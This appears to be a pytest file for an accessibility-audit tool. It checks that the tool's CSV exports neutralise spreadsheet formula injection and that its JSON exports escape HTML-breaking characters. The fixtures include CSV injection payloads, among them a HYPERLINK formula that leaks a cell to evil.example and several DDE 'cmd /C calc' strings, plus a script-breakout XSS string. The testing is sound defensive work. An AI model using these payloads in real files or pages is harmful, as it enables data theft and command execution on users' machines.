"""What a crawled page says cannot act in the files the scorecard writes: CSV cells are not
formulas and JSON is safe to inline in HTML (the CI report formats: tests/reports/ci/)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from massaudit.cli import main
from massaudit.reports.document_list import DocumentItem, documents_csv
from massaudit.reports.site import render_scorecard
from massaudit.reports.views import build_scorecard
from massaudit.rules.catalogue import load_catalogue
from massaudit.rules.judge import judge
from massaudit.rules.model import PageArtifacts
from massaudit.store.db import RunVersions, Store

FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


SCRIPT = "</script><script>alert(1)</script> & more"


CONFIG = {
    "agencies": [{"id": "parks", "name": "Parks"}],
    "sites": [
        {"id": "parks-site", "agency": "parks", "name": "Parks", "start_urls": ["http://x/"]}
    ],
}


@pytest.fixture(scope="module")
def catalogue():
    return load_catalogue()


def hostile_page(n: int, title: str) -> PageArtifacts:
    node = {
        "target": [f"=cmd|' /C calc'!A{n}"],
        "html": f'<img src="{n}.png" alt="">{SCRIPT}',
        "impact": "critical",
        "failureSummary": "@team fix <b>this</b>",
    }
    url = f"http://x/page-{n}/"
    axe = {"violations": [{"id": "image-alt", "impact": "critical", "nodes": [node]}]}
    return PageArtifacts(url, url, 200, title, axe)


@pytest.fixture()
def hostile_run(tmp_path, catalogue):
    db = tmp_path / "audit.sqlite"
    store = Store(str(db))
    run_id = store.begin_run(CONFIG, {}, RunVersions("0.1.0", "4.14.1", "test", "2"))
    titles = [*FORMULA_TITLES, SCRIPT]
    for n, title in enumerate(titles):
        arts = hostile_page(n, title)
        store.save_page(
            run_id,
            site_id="parks-site",
            agency_id="parks",
            depth=0,
            artifacts=arts,
            judgement=judge(arts, catalogue),
        )
    store.finish_run(run_id, "complete", {})
    return store, store.get_run(run_id), db


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_the_scorecard_writes_has_no_formula_cells(hostile_run, catalogue, tmp_path):
    store, run, _db = hostile_run
    out = tmp_path / "report"
    render_scorecard(build_scorecard(store, run, catalogue), catalogue, out)
    written = sorted((out / "export").rglob("*.csv"))
    assert len(written) >= 6
    titles = set()
    for path in written:
        for cell in cells(path.read_text(encoding="utf-8")):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        titles |= {row["page_title"] for row in rows if "page_title" in row}
    # Shown as text, nothing lost: the quote only keeps a spreadsheet from running the cell
    # (and a carriage return inside a cell is a quoted newline, not the end of the row).
    assert titles >= {"'" + title.replace("\r", "\n") for title in FORMULA_TITLES}


def test_documents_csv_has_no_formula_cells():
    item = DocumentItem(
        site_id="s",
        url="http://x/=1+1.pdf",
        kind="pdf",
        size=-1,
        checked=False,
        note="too large",
        guidance="@team",
        linked_from=["-http://x/"],
    )
    row = cells(documents_csv([item]))[10:]
    assert "'@team" in row and "'-http://x/" in row
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    assert "-1" in row, "numbers stay numbers"


def test_json_exports_write_angle_brackets_and_ampersands_escaped(
    hostile_run, catalogue, tmp_path, capsys
):
    store, run, db = hostile_run
    out = tmp_path / "report"
    render_scorecard(build_scorecard(store, run, catalogue), catalogue, out)
    written = sorted((out / "export").rglob("*.json"))
    assert written
    for path in written:
        text = path.read_text(encoding="utf-8")
        assert not set("<>&") & set(text), path.name
        json.loads(text)
    assert main(["export", "--db", str(db)]) == 0
    printed = capsys.readouterr().out
    assert "<" not in printed and "\\u003c/script\\u003e" in printed
    titles = {page["title"] for page in json.loads(printed)["pages"]}
    assert SCRIPT in titles, "the same data comes back when parsed"
